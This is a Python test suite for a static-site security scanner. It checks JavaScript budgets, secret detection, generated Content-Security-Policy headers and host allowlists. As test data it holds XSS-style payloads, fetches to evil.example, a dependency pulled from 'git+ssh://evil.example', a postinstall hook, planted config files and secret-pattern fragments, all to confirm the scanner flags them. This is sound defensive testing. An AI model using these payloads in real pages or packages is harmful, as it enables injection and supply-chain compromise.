import json
import re
import time
from base64 import b64encode
from hashlib import sha256
from pathlib import Path
from random import Random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from routing.policy.platform import Profile, platform_policy
from sites.content_store import ContentStore
from sites.files import MEDIA_TYPES
from sites.scan import engine
from sites.scan.engine import scan
from sites.scan.rules import GATES, RULES, Finding, ScanReport
from sites.spec.model import parse_site
from sites.spec.render import render
from tests.unit.sites.spec.samples import demo_site, demo_text, every_component

PROFILE = Profile(
    js_bytes=1000,
    js_gzip_bytes=500,
    script_hosts=("cdn.example",),
    image_hosts=("img.example", "xn--bcher-kva.example"),
    form_hosts=(),
    max_files=20,
)
SHA384 = "sha384-" + "A" * 64
CLEAN = {
    "index.html": b"<!doctype html><html lang=en><meta charset=utf-8><title>Bakery</title>"
    b"<link rel=stylesheet href=site.css><style>p{margin:0}</style>"
    b"<a href='https://example.org/'>x</a><a href=mailto:a@example.org>y</a><a href='#z'>z</a>"
    b"<img src=/logo.svg srcset='a.png 1x, https://img.example/a.png 2x' alt=''><form action=/send><input></form>"
    b"<script src=app.js defer></script><script>document.title</script>"
    b'<script type=application/ld+json>{"url":"javascript:x"}</script>'
    b"<script src=https://cdn.example/a.js integrity='" + SHA384.encode() + b"' crossorigin=anonymous></script>",
    "app.js": b"document.body.classList.add('ready'); fetch('/data.json');",
    "site.css": b"@font-face{src:url(f.woff2)}p{background:url('data:image/png;base64,iVBORw0KGgo=')}",
    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:red}</style><use href="#a"/></svg>',
    "data.json": b"{}",
    "robots.txt": b"User-agent: *",
    "sitemap.xml": b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>',
    ".well-known/security.txt": b"Contact: mailto:a@example.org",
    ".well-known/apple-app-site-association": b"{}",
}


def report(files: dict[str, bytes], profile: Profile = PROFILE, known_keys: tuple[str, ...] = ()) -> ScanReport:
    return scan(files, profile, profile_name="test", known_keys=known_keys)


def rules(files: dict[str, bytes], profile: Profile = PROFILE, known_keys: tuple[str, ...] = ()) -> set[str]:
    return {finding.rule for finding in report(files, profile, known_keys).findings}


def page(body: str | bytes) -> set[str]:
    return rules({"index.html": body.encode() if isinstance(body, str) else body})


@pytest.mark.req("H-081")
def test_a_clean_site_passes_all_four_gates() -> None:
    result = report(CLEAN)
    assert result.findings == ()
    assert result.passed
    assert list(result.gates.items()) == [(gate, True) for gate in GATES]


@pytest.mark.req("H-081")
def test_the_four_gates_have_the_names_of_the_seed() -> None:
    assert GATES == ("js_budget", "secrets", "csp", "allowlists")
    assert {rule.gate for rule in RULES.values()} == set(GATES)


@pytest.mark.req("H-081")
@pytest.mark.parametrize(
    ("gate", "name", "data"),
    [
        ("js_budget", "big.js", b"var a = 1;" * 101),
        ("secrets", "notes.txt", b"sk-ant-" + b"api03-Zz81kQpLw02mXvB7"),
        ("csp", "page.html", b"<p onclick=go()>"),
        ("allowlists", "page.html", b"<img src=https://evil.example/a.png>"),
    ],
)
def test_each_gate_fails_alone_and_names_file_line_rule_and_fix(gate: str, name: str, data: bytes) -> None:
    result = report({**CLEAN, name: data})
    assert [name for name, passed in result.gates.items() if not passed] == [gate]
    assert not result.passed
    for finding in result.findings:
        assert finding.gate == gate
        assert finding.rule in RULES
        assert finding.file in (name, "")
        assert finding.message
        assert finding.fix


@pytest.mark.req("H-106")
def test_the_budget_is_that_of_the_profile() -> None:
    files = {"a.js": b"x" * 1000}
    assert "js-raw-bytes" not in rules(files)
    assert "js-raw-bytes" in rules(files, PROFILE.model_copy(update={"js_bytes": 999}))


@pytest.mark.req("H-106")
def test_exactly_the_compressed_budget_passes() -> None:
    files = {"a.js": bytes(range(32, 127)) * 3}
    size = report(files).js_gzip_bytes
    assert "js-gzip-bytes" not in rules(files, PROFILE.model_copy(update={"js_gzip_bytes": size}))
    assert "js-gzip-bytes" in rules(files, PROFILE.model_copy(update={"js_gzip_bytes": size - 1}))


@pytest.mark.threat("G7")
@pytest.mark.parametrize(
    "body",
    [
        "<script>{js}</script>",
        "<script type=module>{js}</script>",
        "<script nomodule>{js}</script>",
        "<script type='text/javascript;x'>{js}</script>",
        "<script type=text/later>{js}</script>",
        "<script src='data:text/javascript,{js}'></script>",
        "<script src='data:text/javascript;base64,{b64}'></script>",
        "<script src=hidden.txt></script>",
        "<script src='hidden.json?v=2'></script>",
        "<link rel=modulepreload href=./hidden.txt>",
        "<link rel=preload as=script href=/hidden.txt>",
        "<p onclick='{js}'>",
        "<a href='javascript:{js}'>x</a>",
        "<svg><script>{js}</script></svg>",
        "<svg><script href=hidden.txt></script></svg>",
        "<img src=a.svg>",
        "<noscript></noscript><template><script>{js}</script></template>",
    ],
)
def test_every_way_to_hide_javascript_counts_against_the_budget(body: str) -> None:
    js = "a=1;" * 300
    files = {
        "index.html": body.format(js=js, b64=b64encode(js.encode()).decode()).encode(),
        "hidden.txt": js.encode(),
        "hidden.json": js.encode(),
    }
    if "a.svg" in body:
        files["a.svg"] = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{js}</script></svg>'.encode()
    if "hidden" not in body:
        del files["hidden.txt"], files["hidden.json"]
    assert "js-raw-bytes" in rules(files)


@pytest.mark.threat("G7")
def test_a_script_that_is_not_in_the_release_cannot_be_counted() -> None:
    assert "script-not-in-release" in page("<script src=/elsewhere.js></script>")


def test_the_same_code_on_every_page_is_one_piece_of_code() -> None:
    body = b"<script>" + b"a=1;" * 200 + b"</script>"
    assert report({f"{number}.html": body for number in range(5)}).js_bytes == 800


# More of what is refused, and by which rule, stands in tests/data/hostile/; this is what no text file can hold.


@pytest.mark.threat("G6")
@pytest.mark.parametrize(
    ("body", "rule"),
    [
        (b"<p>\xff", "not-utf8"),
        ("<p>".encode("utf-16"), "not-utf8"),
        (b"<scr\0ipt>", "not-utf8"),
        ("<a " + "a " * 301 + ">", "html-too-complex"),
    ],
)
def test_a_page_that_cannot_be_read_as_it_stands_is_refused(body: str | bytes, rule: str) -> None:
    assert rule in page(body)


@pytest.mark.parametrize(
    "body",
    [
        "<img src=https://img.example/a.png>",
        "<img src=https://IMG.EXAMPLE./a.png>",
        "<img src=//bücher.example/a.png>",
        "<img src=https://img.example:443/a.png>",
        "<a href='https://пример.example/'>",
        "<a href=tel:+123>",
        "<a href=https://example.org:8443/>",
        "<form action=mailto:a@example.org>",
        "<!-- <p onclick=x> -->",
        "<textarea>&lt;p onclick=x></textarea>",
        "<script>let a = '<p onclick=x>'</script>",
        "<svg><title>Icon</title><style>.a{fill:red}</style><path d='M0 0'/></svg><style>p{}</style>",
        "<link rel=alternate hreflang=de href=https://example.org/de><link rel=canonical href=https://example.org/>",
        "<link rel=preconnect href=https://img.example>",
        "<select><option>1<option>2</select>",
        "<p title='a &copy= b &notit; &amp'>",
    ],
)
def test_honest_markup_passes(body: str) -> None:
    assert page(body) == set()


@pytest.mark.parametrize(
    "source",
    [
        *(
            "function f(){}",
            "medieval(x)",
            "setTimeout(f, 1)",
            "fetch('/x')",
            "a.evaluate(x)",
            "import a from './a.js'",
        ),
        *(
            "location = '/a/' + id",
            "location.href = `/p/${x}`",
            "location = `${base}/x`",
            "location.href = './' + page",
        ),
        *("open('panel-' + id)", "dialog.open('https://here.example/')", "open('/menu.pdf')", "location?.assign('/b')"),
        *("location.assign('?page=' + n)", "location.hash = 'a' + b", "if (location == 'a' + b) c()", "location = url"),
        *(
            "window[name]",
            "window['key' in x]",
            "data['a' + 'b']",
            "return ['a' + 'b']",
            "window['_x']",
            "window.open()",
        ),
        *("location = 'about.html'", "location.reload()", "allocation = 'a' + b", "location = a ? 'x.html' : 'y.html'"),
    ],
)
def test_ordinary_javascript_passes(source: str) -> None:
    assert rules({"a.js": source.encode()}) == set()


@pytest.mark.req("H-002")
@pytest.mark.parametrize("name", ["index.php", "api/hello.js"])
def test_what_a_server_would_run_is_refused(name: str) -> None:
    assert rules({name: b"<?php"}) & {"file-type", "host-config-file"}


def test_more_files_than_the_profile_allows_are_refused() -> None:
    files = {f"{number}.txt": b"" for number in range(20)}
    assert rules(files) == set()
    assert rules({**files, "one-more.txt": b""}) == {"too-many-files"}


def test_a_finding_names_the_line_within_the_file() -> None:
    source = b"<p>\r\n<p>\n<style>\np{}\nq{background:url(//evil.example/)}</style>\n<script>\n\neval(x)</script>"
    lines = {finding.rule: finding.line for finding in report({"a.html": source}).findings}
    assert lines == {"image-host": 5, "eval-like": 8}


def test_what_a_finding_shows_is_cut_and_printable() -> None:
    result = report({"a.html": ("<p onclick='\u202e\x1b[31m" + "x" * 5000 + "'>").encode()})
    assert all(finding.message.isprintable() and len(finding.message) < 300 for finding in result.findings)


@pytest.mark.threat("G1")
def test_the_header_allows_exactly_what_was_found() -> None:
    csp = report(CLEAN).csp
    directives = dict(part.split(" ", 1) for part in csp.split("; "))
    assert directives["default-src"] == "'none'"
    assert directives["script-src"].startswith("'self' 'sha256-")
    assert directives["script-src"].endswith(" https://cdn.example")
    assert directives["img-src"] == "'self' data: https://img.example https://xn--bcher-kva.example"
    assert directives["style-src-attr"] == "'none'"
    assert {directives[name] for name in ("base-uri", "object-src", "frame-src", "frame-ancestors", "worker-src")} == {
        "'none'"
    }
    assert "unsafe" not in csp
    assert "*" not in csp


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_the_hash_of_an_inline_script_is_that_of_its_text_as_a_browser_reads_it(newline: str) -> None:
    digest = b64encode(sha256(b"a\n &amp; b").digest()).decode()
    csp = report({"a.html": f"<script>a{newline} &amp; b</script>".encode()}).csp
    assert f"script-src 'self' 'sha256-{digest}'" in csp


def test_more_inline_scripts_than_a_header_can_list_are_refused() -> None:
    many = b"".join(b"<script>%d</script>" % number for number in range(65))
    assert "too-many-inline" in rules({"a.html": many})
    assert "too-many-inline" not in rules({"a.html": many.replace(b"<script>64</script>", b"")})


@pytest.mark.req("H-113")
def test_equal_files_give_an_equal_report_in_any_order() -> None:
    one, other = report(CLEAN), report(dict(reversed(CLEAN.items())))
    assert one == other
    assert one.report_digest == other.report_digest


@pytest.mark.req("H-114")
@pytest.mark.threat("H3")
def test_a_report_speaks_for_the_manifest_of_its_bytes_alone(tmp_path: Path) -> None:
    manifest = ContentStore(tmp_path).put_tree(CLEAN)
    assert report(CLEAN).digest == manifest.digest
    assert report({**CLEAN, "data.json": b"[]"}).digest != manifest.digest
    assert report({**CLEAN, "data.json": b"[]"}).report_digest != report(CLEAN).report_digest
    built = ContentStore(tmp_path).put_tree(BUILT_SITE, public="dist")
    assert built_report().digest == built.digest, "of which a part is served"
    assert ContentStore(tmp_path).put_tree(BUILT_SITE).digest != built.digest, "which is what was judged"


def test_a_scan_that_finds_too_much_closes_every_gate() -> None:
    files = {f"{number}.html": b"<p onclick=x>" * 1000 for number in range(6)}
    result = report(files)
    assert not any(result.gates.values())
    assert len(result.findings) < 200


@pytest.mark.req("H-106")
def test_the_profiles_that_ship_judge_one_release_differently() -> None:
    profiles = platform_policy().profiles
    files = {"a.js": b"a(1);"}
    passed = {name: scan(files, profile, profile_name=name).passed for name, profile in profiles.items()}
    assert passed == {"default": True, "static": False, "interactive": True}


@pytest.mark.threat("G8")
@pytest.mark.parametrize(
    "host", ["*.example", "https://cdn.example", "cdn.example; script-src *", "CDN.example", "a b"]
)
def test_a_profile_takes_nothing_but_plain_hosts_into_the_header(host: str) -> None:
    with pytest.raises(ValidationError):
        Profile(js_bytes=0, js_gzip_bytes=0, script_hosts=(host,), max_files=1)


def test_a_page_that_ends_inside_a_tag_is_refused() -> None:
    assert page("<p>x</p><a href=") == {"html-ambiguous"}
    assert page("<p>x</p><!-- y") == {"html-ambiguous"}
    assert page("<p>x</p>") == set()


# The scan of a built site: what is served is judged wholly, and its sources by what could hurt unserved.

BUILT_PROFILE = Profile(js_bytes=1_000, js_gzip_bytes=1_000, max_files=3)
PAGE = b'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body><p>x</p></body></html>'
PACKAGE = json.dumps({"scripts": {"build": "make"}, "dependencies": {"three": "0.170.0"}}).encode()
BUILT_SITE = {"package.json": PACKAGE, "dist/index.html": PAGE}
KEY = b"sk-ant-" + b"api03-Zz81kQpLw02mXvB7"


def built_report(profile: Profile = BUILT_PROFILE, **files: bytes) -> ScanReport:
    return scan({**BUILT_SITE, **files}, profile, profile_name="test")


def built_findings(*, profile: Profile = BUILT_PROFILE, **files: bytes) -> list[tuple[str, str]]:
    return [(one.file, one.rule) for one in built_report(profile, **files).findings]


def test_sources_are_neither_pages_nor_charged() -> None:
    sources = {
        "src/main.ts": b"let a: number = 1",
        "src/big.js": b"eval(x);" * 1_000,
        "src/page.html": b"<p onclick=go()>",
        "src/app.vue": b"<template>",
        "vercel.json": b"{}",
        ".browserslistrc": b"defaults",
        "a.css": b"@import '//e.x'",
        "api/a.js": b"x",
        "photo.jpg": b"<html>",
    }
    judged = built_report(**sources)
    assert judged.findings == ()
    assert judged.js_bytes == 0


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("main.js", b"x" * 1_001, "js-raw-bytes"),
        ("page.html", b"<p onclick=go()>", "event-handler"),
        ("page.html", b"<img src=https://evil.example/a.png>", "image-host"),
        ("main.js", b"eval(x)", "eval-like"),
        ("main.ts", b"x", "file-type"),
        (".hidden", b"x", "hidden-file"),
        ("_redirects", b"/ /x", "host-config-file"),
        ("page.html", b'<script src="/src/main.js"></script>', "script-not-in-release"),
        ("page.html", b'<script src="../src/main.js"></script>', "script-not-in-release"),
        ("package.json", b'{"scripts": {"postinstall": "x"}}', "package-config"),
    ],
)
def test_what_is_served_is_judged_wholly_and_named_as_it_lies_in_the_release(name: str, data: bytes, rule: str) -> None:
    places = built_findings(**{f"dist/{name}": data, "src/main.js": b"let a"})
    assert rule in {one for _, one in places}
    assert {file for file, _ in places} <= {f"dist/{name}", ""}


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("src/main.js", b"const key = '" + KEY + b"'", "secret-anthropic"),
        ("notes.txt", KEY, "secret-anthropic"),
        ("package.json", b'{"scripts": {"build": "x", "postinstall": "x"}}', "package-config"),
        ("tools/package.json", b'{"dependencies": {"x": "git+ssh://evil.example/x"}}', "package-config"),
        (".npmrc", b"registry=x", "planted-file"),
        ("src/.claude/settings.json", b"{}", "planted-file"),
        ("node_modules/x/a.txt", b"x", "package-code"),
        ("dist/node_modules/x/a.txt", b"x", "package-code"),
    ],
)
def test_what_hurts_unserved_is_found_in_sources_too(name: str, data: bytes, rule: str) -> None:
    assert any(file == name and one.startswith(rule) for file, one in built_findings(**{name: data}))


def test_only_what_is_served_counts_against_the_profile_s_files() -> None:
    sources = {f"src/{number}.js": b"x" for number in range(9)}
    assert built_findings(**sources) == []
    assert ("", "too-many-files") in built_findings(**{f"dist/{number}.txt": b"x" for number in range(3)})


def test_a_script_of_the_build_is_found_from_the_root_that_visitors_know() -> None:
    page = PAGE.replace(b"</body>", b'<script src="/js/main.js"></script></body>')
    assert built_findings(**{"dist/index.html": page, "dist/js/main.js": b"let a"}) == []


def test_a_site_that_was_never_built_does_not_pass() -> None:
    judged = scan({"package.json": PACKAGE, "index.html": PAGE}, BUILT_PROFILE, profile_name="test")
    assert [(one.file, one.rule) for one in judged.findings] == [("package.json", "not-built")]


def test_who_asks_for_it_gets_all_served_and_all_judged() -> None:
    package = json.dumps({"scripts": {"build": "make"}, "pointsman": {"public": "."}}).encode()
    files = {"package.json": package, "index.html": PAGE, "main.ts": b"x", "a.js": b"x" * 1_001}
    judged = scan(files, BUILT_PROFILE, profile_name="test")
    assert {one.rule for one in judged.findings} == {"file-type", "js-raw-bytes", "too-many-files"}


@pytest.mark.parametrize("resolved", [None, "http://egress:8081/three.tgz"])
def test_a_lock_file_passes_if_it_names_no_place_inside_a_box(resolved: str | None) -> None:
    entry = {"version": "0.170.0", "integrity": "sha512-" + "A" * 86 + "=="}
    entry |= {"resolved": resolved} if resolved else {}
    lock = json.dumps({"lockfileVersion": 3, "packages": {"": {}, "node_modules/three": entry}}).encode()
    assert built_findings(**{"package-lock.json": lock}) == (
        [("package-lock.json", "package-config")] if resolved else []
    )


# What the catalog renders passes: a scan that refuses honest work would be switched off.

DEFAULT = platform_policy().profiles["default"]


def findings(files: dict[str, bytes]) -> list[tuple[str, str, int, str]]:
    report = scan(files, DEFAULT, profile_name="default")
    return [(one.rule, one.file, one.line, one.message) for one in report.findings]


def test_a_page_with_the_example_of_every_component_passes() -> None:
    assert findings(dict(render(parse_site(json.dumps(every_component()))))) == []


def with_texts(value: Any, text: str) -> Any:
    if isinstance(value, dict):
        return {
            key: text
            if key in ("title", "text", "heading", "body") and isinstance(item, str)
            else with_texts(item, text)
            for key, item in value.items()
        }
    return [with_texts(item, text) for item in value] if isinstance(value, list) else value


@pytest.mark.threat("F13")
@pytest.mark.parametrize(
    "text",
    [
        "<script>a()</script>",
        '"><img src=x onerror=a()>',
        "</title><svg onload=a()>",
        "javascript:a()",
        "</style>",
        "url(//evil.example)",
        "<!--",
        "]]>",
        "{{a}}",
        "&lt;b&gt;",
    ],
)
def test_a_text_that_looks_like_an_attack_is_only_text(text: str) -> None:
    site = parse_site(json.dumps(with_texts(json.loads(demo_text()), text)))
    assert findings(dict(render(site))) == []


def test_every_profile_that_ships_lets_the_demo_site_pass() -> None:
    files = dict(render(demo_site()))
    profiles: dict[str, Profile] = platform_policy().profiles
    assert all(scan(files, profile, profile_name=name).passed for name, profile in profiles.items())


SIZE = 125_000

PIECES = [
    ("a.html", b"", b"<div>"),
    ("a.html", b"", b"<div a=b>"),
    ("a.html", b"<a ", b"a "),
    ("a.html", b"", b"<"),
    ("a.html", b"", b"</"),
    ("a.html", b"", b"<!--"),
    ("a.html", b"", b"<a b='"),
    ("a.html", b"", b"<svg><g></x>"),
    ("a.html", b"", b"<select>"),
    ("a.html", b"", b"<noscript>"),
    ("a.html", b"<style>", b"</style"),
    ("a.html", b"<script>", b"<!--<script>"),
    ("a.html", b"<a href='", b"&amp"),
    ("a.html", b"<img srcset='(", b",a"),
    ("a.html", b"", b"<p style='a:url(b)'>"),
    ("a.html", b"", b"<img src='data:image/svg+xml,<svg/>'>"),
    ("a.css", b"", b"\\75rl(("),
    ("a.css", b"", b"image-set(var("),
    ("a.css", b"", b"a{b:'"),
    ("a.css", b"", b"behavior/*"),
    ("a.js", b"", b"eval//"),
    ("a.js", b"", b"eval/*"),
    ("a.js", b"", b"location ="),
    ("a.js", b"", b"new a"),
    ("a.js", b"", b"\\u0065"),
    ("a.txt", b"", b"eyJaaaaaaaaa."),
    ("a.txt", b"", b"%41&#65;"),
    ("a.txt", b"", b"://a:"),
    ("a.txt", b"", b"aws"),
    ("a.txt", b"", b"A"),
    ("a.txt", b"", b"A" * 60 + b"\n"),
    ("a.txt", b"", b"\0"),
    ("a.txt", b"", b"a<b>"),
    ("a.txt", b"", b"'+'"),
    ("a.txt", b"", b"115,"),
    ("a.svg", b"", b"<g>"),
    ("a.svg", b"<svg ", b"a='b' "),
    ("a.svg", b"", b"<!DOCTYPE "),
    ("a.svg", b"", b"<?xml encoding"),
    ("a.pdf", b"%PDF-", b"#41"),
    ("package.json", b"", b"["),
    ("package.json", b"", b'{"a":'),
]


@pytest.mark.slow
@pytest.mark.threat("F12", "G6", "G7")
def test_no_kind_of_hostile_input_takes_more_than_linear_time() -> None:
    for name, head, piece in PIECES:
        started = time.process_time()
        hostile = {name: head + piece * (SIZE // len(piece))}
        scan(hostile, DEFAULT, profile_name="default", known_keys=("k" * 40,))
        assert time.process_time() - started < 4, (name, head, piece)  # below 1; quadratic ones took minutes


@pytest.mark.threat("G4")
@pytest.mark.parametrize("depth", [5, 40])
def test_images_within_images_end(depth: int) -> None:
    inner = "<svg xmlns='http://www.w3.org/2000/svg'/>"
    for _ in range(depth):
        inner = f"<svg xmlns='http://www.w3.org/2000/svg'><image href='data:image/svg+xml,{_quoted(inner)}'/></svg>"
    report = scan({"a.svg": inner.encode()}, DEFAULT, profile_name="default")
    assert {finding.rule for finding in report.findings} == {"html-too-complex"}


def _quoted(text: str) -> str:
    return text.replace("%", "%25").replace("'", "%27").replace("<", "%3C").replace("&", "%26")


NAMES = st.sampled_from([f"a.{extension}" for extension in MEDIA_TYPES] + ["package.json", "b", ".well-known/a"])
FRAGMENTS = [
    b"<script>",
    b"</script>",
    b"<style>",
    b"<svg>",
    b"</svg>",
    b"<a href='",
    b"'>",
    b"<!--",
    b"-->",
    b"<![CDATA[",
    b"<?xml ",
    b"<!DOCTYPE ",
    b"&#x",
    b"&",
    b"%4",
    b"\\u00",
    b"url(",
    b"data:image/svg+xml;base64,",
    b"srcset=",
    b"//",
    b"xn--a",
    b"http://[",
    b":99999",
    b"eval(",
    b"import(",
    b"sk-ant-",
    b"eyJ",
    b"-----BEGIN ",
    b"\0",
    b"\xff\xfe",
    b"\x1f\x8b\x08",
    b"{",
    b"[",
    b'"',
    b"'",
    b"(",
    b"\xf0\x9f\x98\x80",
    b"<noscript>",
    b"<template>",
    b"<select>",
]
CONTENT = st.one_of(
    st.binary(max_size=300), st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.binary(max_size=4))).map(b"".join)
)


@pytest.mark.slow
@pytest.mark.threat("F12", "G11")
@settings(max_examples=400, deadline=None, derandomize=True, database=None)
@given(st.dictionaries(NAMES, CONTENT, max_size=3))
def test_any_bytes_give_a_report_of_findings_and_nothing_else(files: dict[str, bytes]) -> None:
    report = scan(files, DEFAULT, profile_name="default", known_keys=("correct-horse-battery",))
    assert report.passed == (not report.findings)
    for finding in report.findings:
        assert isinstance(finding, Finding)
        assert finding.rule in RULES
        assert finding.file in (*files, "")
        assert finding.line >= 0
        assert (finding.message + finding.fix).isprintable()
    assert report == scan(files, DEFAULT, profile_name="default", known_keys=("correct-horse-battery",))


CONTENTS = {
    "html": [
        b"<h1>One</h1><script src=a.js></script>",
        b"<p style='color:red'>Two</p><script>document.title = 'x'</script>",
        b"<link rel=stylesheet href=a.css><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' alt=x>",
        b"<script src=gone.js></script>",
        b"<script src=notes.txt></script><a href=https://shop.example>shop</a>",
        b"<iframe src=https://maps.example></iframe>",
        b"<iframe name=f title=x sandbox></iframe><a href=https://maps.example/map target=f>map</a>",
        b"<style>p { color: blue }</style><script>document.title = 'x'</script>",
        b"<script>fetch('https://evil.example')</script>",
    ],
    "js": [b"document.title = 'x'", b"eval('1')", b"let a = 1", b"location = 'https://evil.example'"],
    "css": [b"p { top: 0 }", b"p { background: url(https://evil.example/a.png) }"],
    "txt": [b"document.title = 'y'", b"hello", b"key " + b"k" * 40],
    "svg": [b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", b"<svg onload='x()'/>"],
}
NAMES = ["index.html", "b.html", "sub/c.html", "a.js", "b.js", "sub/a.js", "a.css", "notes.txt", "gone.js", "x.svg"]
BUILD = {
    "package.json": b'{"scripts": {"build": "x"}, "pointsman": {"public": "dist"}}',
    "dist/index.html": b"<p>x</p>",
}


def test_what_is_remembered_of_files_changes_no_report(monkeypatch: pytest.MonkeyPatch) -> None:
    few = Profile(js_bytes=60, js_gzip_bytes=20480, frames=("maps.example",), max_files=6)
    for random in map(Random, range(40)):
        files: dict[str, bytes] = {}
        for _ in range(25):
            name = random.choice(NAMES)
            bad = random.random() < 0.15
            pieces = CONTENTS[name.rpartition(".")[2]]
            files[name] = random.choice(pieces if bad else pieces[:3])
            if len(files) > 4 or random.random() < 0.2:
                del files[random.choice(sorted(files))]
            built = {**BUILD, **files, **{f"dist/{path}": files[path] for path in files}}
            site = files if random.random() < 0.8 else built
            profile, keys = random.choice([PROFILE, few]), random.choice([(), ("k" * 40,)])
            remembered = scan(site, profile, profile_name="p", known_keys=keys)
            with monkeypatch.context() as patch:
                patch.setattr(engine, "_scan_by_file", lambda release: None)
                assert remembered == scan(site, profile, profile_name="p", known_keys=keys)


def test_an_inline_handler_is_refused_with_its_line_and_a_way_and_moved_that_way_it_passes() -> None:
    old = b"<!doctype html><html lang=en><title>Boxes</title>\n<form onsubmit='return check(this)'><input></form>"
    [finding] = report({"boxes.html": old}).findings
    assert (finding.file, finding.line, finding.rule) == ("boxes.html", 2, "event-handler")
    assert "listener" in finding.fix
    text = (Path(__file__).parents[4] / "docs" / "sites.md").read_text()
    [listener] = re.findall(r"`(document\.getElementById\(\"order\"\).*?)`", text)
    moved = old.replace(b"onsubmit='return check(this)'", b"id=order") + b"<script src=form.js></script>"
    assert report({"boxes.html": moved, "form.js": f"{listener};".encode()}).passed
